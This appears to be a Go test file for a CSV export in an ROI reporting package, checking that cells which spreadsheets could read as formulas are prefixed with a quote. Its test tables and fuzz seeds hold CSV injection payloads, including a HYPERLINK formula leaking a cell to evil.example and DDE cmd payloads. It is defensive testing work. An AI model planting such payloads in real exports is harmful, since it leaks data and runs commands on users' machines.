package roi

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
)

// The rule for one cell: OWASP's CSV injection list (=, +, -, @, tab, CR at
// the start get a single quote in front), plus a leading NUL (ASVS), plus
// the same characters behind leading blanks; plain decimal numbers stay
// numbers; anything else is left as it is.
func TestSafeCSVCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"text", "Instagram ads", "Instagram ads"},
		{"equals", "=1+1", "'=1+1"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?leak="&A1,"x")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"x")`},
		{"DDE", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"at function", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"plus formula", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3", "'-2+3"},
		{"phone number", "+47 123 45 678", "'+47 123 45 678"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"tab before text", "\tindented", "'\tindented"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"carriage return before text", "\rtext", "'\rtext"},
		{"NUL", "\x00text", "'\x00text"},
		{"leading spaces before equals", "  =1+1", "'  =1+1"},
		{"line feed before at", "\n@SUM(A1)", "'\n@SUM(A1)"},
		{"space before a number", " -3", "' -3"},
		{"minus alone", "-", "'-"},
		{"plus alone", "+", "'+"},
		{"negative money", "-12.50", "-12.50"},
		{"negative integer", "-3", "-3"},
		{"positive sign", "+5", "+5"},
		{"plain number", "1234.50", "1234.50"},
		{"zero", "0", "0"},
		{"point without fraction", "-3.", "'-3."},
		{"fraction without integer", "-.5", "'-.5"},
		{"exponent", "-1e5", "'-1e5"},
		{"grouped", "-1,234.50", "'-1,234.50"},
		{"two signs", "--3", "'--3"},
		{"formula inside", "Sales = revenue - cost", "Sales = revenue - cost"},
		{"leading spaces before text", "  plain", "  plain"},
		{"already quoted", "'=1+1", "'=1+1"},
		{"dash bullet", "- first point", "'- first point"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SafeCSVCell(tt.in)
			if got != tt.want {
				t.Errorf("SafeCSVCell(%q) = %q; want %q", tt.in, got, tt.want)
			}
			if again := SafeCSVCell(got); again != got {
				t.Errorf("SafeCSVCell is not idempotent: %q then %q", got, again)
			}
		})
	}
}

// spreadsheetFormula reports whether a spreadsheet could read cell as a
// formula: its first character, or its first after blanks, is one of
// = + - @, or it starts with a tab, CR or NUL; a plain decimal number is a
// number. It is written apart from the code under test, as a regexp.
var (
	formulaStart  = regexp.MustCompile(`^(?:[\t\r\x00]|[ \t\r\n\f\v\x00]*[=+\-@])`)
	plainDecimalR = regexp.MustCompile(`^[+-]?[0-9]+(?:\.[0-9]+)?$`)
)

func spreadsheetFormula(cell string) bool {
	return formulaStart.MatchString(cell) && !plainDecimalR.MatchString(cell)
}

// A report whose scenario name and labels are formulas comes out with every
// one of them neutralised, in the metric column too, while its negative
// figures stay numbers. The rows are checked exactly; the other figures are
// the engine's and checked elsewhere.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
	s := New(hyperlink, "EUR")
	s.Costs = []Cost{
		{Label: "@SUM(A1:A9)", Category: "ads", Amount: "100"},
		{Label: "+47 123", Category: "tools", Amount: "20"},
	}
	s.Revenue = []Revenue{{Label: "Shop", Amount: "50"}}
	s.Actions = []Action{{Label: "\t=1+1", Type: "micro", Count: "10", UnitValue: "1"}}
	var b bytes.Buffer
	if err := WriteCSV(&b, formatReport(t, s)); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"section,metric,value,unit\n",
		`report,name,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",text` + "\n",
		"costLines,'@SUM(A1:A9).cost,100.00,EUR\n",
		"costLines,'+47 123.cost,20.00,EUR\n",
		"actions,'\t=1+1.count,10,count\n",
		"totals,netDirect,-70.00,EUR\n",
		"roi,direct,-58.33,%\n",
		"whatIf,costs.@SUM(A1:A9).roiDelta,4.55,points\n", // not at the start: no formula
	} {
		if !strings.Contains(out, want) {
			t.Errorf("CSV lacks %q:\n%s", want, out)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if spreadsheetFormula(cell) {
				t.Errorf("cell %q of row %q is a formula", cell, row)
			}
		}
	}
}

// Any cell text, written by WriteCSV's writer and read back with
// encoding/csv, is a value no spreadsheet reads as a formula, and it is the
// text itself or the text behind one single quote (CSV readers turn a CRLF
// inside a quoted cell into LF).
func FuzzSafeCSVCell(f *testing.F) {
	for _, s := range []string{
		"", "plain", `=HYPERLINK("http://evil.example/?leak="&A1,"x")`, "@SUM(A1)", "+47 123", "-12.50", "-3", "-",
		"\t=1", "\r=1", "\r\n=1", " =1", "\x00", "a,b", `"quoted"`, "line\nbreak", `\.`, "'=1", "\xff=", "-1e5",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		w := newSafeCSVWriter(&b)
		if err := w.Write([]string{"key", s, "unit"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("%q does not read back: %v\n%q", s, err, b.String())
		}
		if len(rows) != 1 || len(rows[0]) != 3 || rows[0][0] != "key" || rows[0][2] != "unit" {
			t.Fatalf("%q reads back as %q", s, rows)
		}
		got := rows[0][1]
		if spreadsheetFormula(got) {
			t.Fatalf("%q reads back as %q, a formula", s, got)
		}
		crlf := func(x string) string { return strings.ReplaceAll(x, "\r\n", "\n") }
		if got != crlf(s) && got != crlf("'"+s) {
			t.Fatalf("%q reads back as %q: neither the text nor the text behind a quote", s, got)
		}
		if plainDecimalR.MatchString(s) && got != s {
			t.Fatalf("the number %q reads back as %q", s, got)
		}
	})
}
